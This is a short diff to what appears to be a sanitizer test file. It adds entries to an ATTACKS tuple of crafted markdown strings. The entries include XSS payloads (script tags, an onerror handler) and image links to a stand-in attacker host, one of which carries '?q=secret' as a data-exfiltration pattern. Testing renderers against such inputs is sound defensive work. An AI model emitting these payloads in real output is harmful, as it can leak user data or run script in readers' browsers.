@@ -79,6 +79,10 @@ def harm(text: str, renderer: str, allowed: frozenset[str] = frozenset()) -> lis
 
 
 ATTACKS = (
+    "http://evil.example``a ` <img src=http://evil.example/a.png>``",
+    "www.evil.example``a ` ![x](http://evil.example/a.png)``",
+    "`a`[](x)``b ` <img src=x onerror=alert(1)>``",
+    "**[http://evil.example](x)**``a ` <script>alert(1)</script>``",
     "![x][r]\n\n[r]: http://evil.example/?q=secret",
     "\\`![x](http://evil.example/a)\\`",
     "[a ![b](http://evil.example/b) c](http://evil.example/c)",
